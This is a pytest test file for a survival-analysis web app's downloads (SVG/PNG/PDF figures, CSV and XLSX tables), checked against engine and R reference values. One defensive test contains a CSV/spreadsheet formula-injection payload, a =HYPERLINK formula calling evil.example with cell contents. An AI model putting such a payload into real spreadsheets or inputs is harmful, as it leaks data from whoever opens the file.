"""Downloads of the survival explorer: figures (SVG, PNG), curve steps (CSV), horizon table (CSV,
XLSX) and competing outcomes (CSV) hold what the engine computed, as numbers."""

from __future__ import annotations

import csv
import io
import xml.etree.ElementTree as ET
import zipfile

import pytest
from openpyxl import load_workbook
from support_research import close, expected, load_oracle, query_for, url_for_expected

from tracker.models import Role
from tracker.services.analytics import queries as analytics


@pytest.fixture
def researcher(client, login, app, make_federation):
    load_oracle(make_federation, baselines=True)
    login(Role.RESEARCHER)
    return client


def rows_of(response) -> list[dict[str, str]]:
    assert response.status_code == 200 and response.mimetype == "text/csv"
    body = response.get_data().decode("utf-8")
    assert body.startswith("\ufeff")  # as every CSV download: Excel then reads accents right
    return list(csv.DictReader(io.StringIO(body[1:])))


def optional(text: str) -> float | None:
    return float(text) if text != "" else None


def test_curve_steps_csv_is_the_engine_curve(researcher):
    exp = expected("expected_by_transfer_type.json")
    response = researcher.get(url_for_expected(exp, "/research/steps.csv"))
    assert "attachment" in response.headers["Content-Disposition"]
    rows = rows_of(response)
    assert list(rows[0]) == ["group", "time_years", "at_risk", "events", "censored", "survival", "ci_lower",
                             "ci_upper", "expected"]
    report = analytics.compute(None, query_for(exp)).report
    for group in report.groups:
        mine = [r for r in rows if r["group"] == group.group]
        steps = group.steps
        assert len(mine) == len(steps.time)
        assert [float(r["time_years"]) for r in mine] == [float(t) for t in steps.time]  # exact: repr round-trips
        assert [int(r["at_risk"]) for r in mine] == [int(v) for v in steps.at_risk]
        assert sum(int(r["events"]) for r in mine) == group.events
        assert [optional(r["survival"]) for r in mine] == [float(v) for v in steps.survival]
        expected_steps = group.baseline.steps.expected
        assert all(close(optional(r["expected"]), None if v != v else float(v))
                   for r, v in zip(mine, expected_steps, strict=True))


def test_curve_steps_read_at_the_horizons_give_the_r_reference(researcher):
    exp = expected("expected_overall_no_delayed_entry.json")
    rows = rows_of(researcher.get(url_for_expected(exp, "/research/steps.csv")))
    for h in exp["groups"][0]["horizons"]:
        before = [r for r in rows if float(r["time_years"]) <= h["years"]]
        assert close(float(before[-1]["survival"]), h["survival"])


def test_horizon_table_csv_and_xlsx_hold_the_r_reference_as_numbers(researcher):
    exp = expected("expected_cooperative_by_country.json")
    csv_rows = rows_of(researcher.get(url_for_expected(exp, "/research/horizons.csv")))
    response = researcher.get(url_for_expected(exp, "/research/horizons.xlsx"))
    assert response.mimetype == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    book = load_workbook(io.BytesIO(response.data))
    sheet = book["Horizons"]
    header = [c.value for c in sheet[1]]
    xlsx_rows = [dict(zip(header, (c.value for c in row), strict=True)) for row in sheet.iter_rows(min_row=2)]
    engine = analytics.survival_json(None, query_for(exp))
    relative = [(e["survival"], r["survival"]) for g in engine["groups"]
                for e, r in zip(g["baseline"]["expected"], g["baseline"]["relative"], strict=True)]
    wanted = [(g, h) for g in exp["groups"] for h in g["horizons"]]
    assert len(csv_rows) == len(xlsx_rows) == len(wanted) == len(relative)
    for (g, h), from_csv, from_xlsx, (e, r) in zip(wanted, csv_rows, xlsx_rows, relative, strict=True):
        assert from_csv["group"] == from_xlsx["group"] == g["group"]
        assert int(from_csv["n"]) == from_xlsx["n"] == g["n"] and from_xlsx["events"] == g["events"]
        assert int(from_csv["years"]) == from_xlsx["years"] == h["years"]
        assert int(from_csv["at_risk"]) == from_xlsx["at_risk"] == h["at_risk"]
        for key in ("survival", "ci_lower", "ci_upper"):
            assert isinstance(from_xlsx[key], float)  # a number, not formatted text
            assert close(optional(from_csv[key]), h[key]) and close(from_xlsx[key], h[key])
        assert close(from_xlsx["median_years"], g["median_years"])
        assert close(from_xlsx["expected"], e) and close(from_xlsx["relative"], r)
        assert close(optional(from_csv["expected"]), e) and close(optional(from_csv["relative"]), r)
    assert any(isinstance(row["expected"], float) for row in xlsx_rows)
    about = {row[0]: row[1:] for row in book["About"].iter_rows(values_only=True)}
    assert about["as_of"][0] == "2025-12-31" and about["endpoint"][0] == "cooperative"
    assert close(about["log-rank statistic"][0], exp["logrank"]["statistic"])


def test_figures_download_as_svg_and_png(researcher):
    for kind in ("km", "competing"):
        svg = researcher.get(f"/research/figure/{kind}.svg?as_of=2025-12-31&group_by=transfer_type")
        assert svg.status_code == 200 and svg.mimetype == "image/svg+xml"
        assert 'filename="' in svg.headers["Content-Disposition"]
        root = ET.fromstring(svg.data)
        ids = {el.get("id") for el in root.iter() if el.get("id")}
        prefix = "km-curve-" if kind == "km" else "competing-closure-"
        assert {f"{prefix}{g}" for g in ("conversion", "rescue", "succession")} <= ids
        png = researcher.get(f"/research/figure/{kind}.png?as_of=2025-12-31&group_by=transfer_type")
        assert png.status_code == 200 and png.mimetype == "image/png"
        assert png.data.startswith(b"\x89PNG\r\n\x1a\n")
    # the same selection gives the same bytes (drawn once, cached)
    again = researcher.get("/research/figure/km.svg?as_of=2025-12-31&group_by=transfer_type")
    assert again.data == researcher.get("/research/figure/km.svg?as_of=2025-12-31&group_by=transfer_type").data


def test_competing_outcomes_csv(researcher):
    rows = rows_of(researcher.get("/research/competing.csv?as_of=2025-12-31"))
    cooperative = analytics.survival_json(None, analytics.SurvivalQuery(
        as_of=query_for(expected("expected_overall.json")).as_of, endpoint="cooperative", baselines=False))
    for row, h in zip(rows, cooperative["groups"][0]["horizons"], strict=True):
        # every exit in the reference registry is a liquidation: closure = 1 - survival, no loss
        assert close(float(row["closure"]), 1 - h["survival"]) and float(row["loss"]) == 0
        assert int(row["at_risk"]) == h["at_risk"]


def test_page_links_to_every_download_with_the_same_selection(researcher):
    html = researcher.get("/research/?as_of=2025-12-31&group_by=transfer_type&country=FR").get_data(as_text=True)
    selection = "as_of=2025-12-31&amp;group_by=transfer_type&amp;country=FR"
    for path in ("figure/km.svg", "figure/km.png", "figure/competing.svg", "figure/competing.png", "steps.csv",
                 "horizons.csv", "horizons.xlsx", "competing.csv"):
        assert f"/research/{path}?{selection}" in html, path
    assert "/api/v1/survival?as_of=2025-12-31&amp;group_by=transfer_type&amp;country=FR" in html


def test_a_crafted_link_puts_no_formula_into_a_spreadsheet(researcher):
    """A filter value is the link's text: in the XLSX's About sheet it must stay text, never run."""
    crafted = '=HYPERLINK("http://evil.example/?"&A1)'
    response = researcher.get("/research/horizons.xlsx", query_string={"as_of": "2025-12-31",
                                                                       "where": f"region={crafted}"})
    assert response.status_code == 200
    book = load_workbook(io.BytesIO(response.get_data()))
    cells = [c for row in book["About"].iter_rows() for c in row if isinstance(c.value, str)]
    hostile = [c for c in cells if c.value.upper().startswith("=HYPERLINK")]
    assert hostile and all(c.data_type == "s" and c.quotePrefix for c in hostile)
    with zipfile.ZipFile(io.BytesIO(response.get_data())) as archive:
        xml = "".join(archive.read(n).decode() for n in archive.namelist() if n.startswith("xl/worksheets/"))
    assert "<f>" not in xml  # no formula anywhere


def test_the_case_list_downloads_with_its_follow_up(researcher):
    exp = expected("expected_by_transfer_type.json")
    group = exp["groups"][0]
    query = f"as_of=2025-12-31&group_by=transfer_type&group={group['group']}"
    rows = rows_of(researcher.get(f"/research/cases.csv?{query}"))
    assert {"entry_years", "followup_years", "event", "analysed", "left_out_because"} <= set(rows[0])
    analysed = [r for r in rows if r["analysed"] == "True"]
    assert len(analysed) == group["n"]
    assert sum(int(r["event"]) for r in analysed) == group["events"]
    assert all(float(r["followup_years"]) > float(r["entry_years"]) >= 0 for r in analysed)
    assert all(r["event"] == "" and r["left_out_because"] for r in rows if r["analysed"] != "True")
    book = load_workbook(io.BytesIO(researcher.get(f"/research/cases.xlsx?{query}").get_data()))
    assert book["cases"].max_row == len(rows) + 1


@pytest.mark.parametrize("fmt", ["svg", "pdf", "png"])
def test_a_downloaded_figure_stands_on_its_own(researcher, fmt):
    response = researcher.get(f"/research/figure/km.{fmt}?as_of=2025-12-31&group_by=transfer_type")
    assert response.status_code == 200 and "attachment" in response.headers["Content-Disposition"]
    body = response.get_data()
    if fmt == "svg":
        text = body.decode()
        # title, the selection in words, the date of the data, n and the source
        assert "by years since the transfer" in text and "by transfer type" in text
        assert "2025-12-31" in text and "n = " in text and "Source: Transfer Tracker registry" in text
    elif fmt == "pdf":
        assert body.startswith(b"%PDF") and b"/Type /Page" in body
    else:
        assert body.startswith(b"\x89PNG")
    for kind in ("competing", "hazard"):
        other = researcher.get(f"/research/figure/{kind}.{fmt}?as_of=2025-12-31&group_by=transfer_type")
        assert other.status_code == 200


def test_the_further_tables_download(researcher):
    query = "as_of=2025-12-31&group_by=transfer_type"
    hazard = rows_of(researcher.get(f"/research/table/hazard.csv?{query}"))
    assert hazard and {"group", "start_years", "rate", "ci_lower"} <= set(hazard[0])
    pairwise = rows_of(researcher.get(f"/research/table/pairwise.csv?{query}"))
    assert len(pairwise) == 3 and all(0 <= float(r["p_holm"]) <= 1 for r in pairwise)  # three groups, three pairs
    cox = rows_of(researcher.get("/research/table/cox.csv?as_of=2025-12-31&model=cox&covariates=transfer_type"))
    assert cox and all(float(r["hazard_ratio"]) > 0 for r in cox)
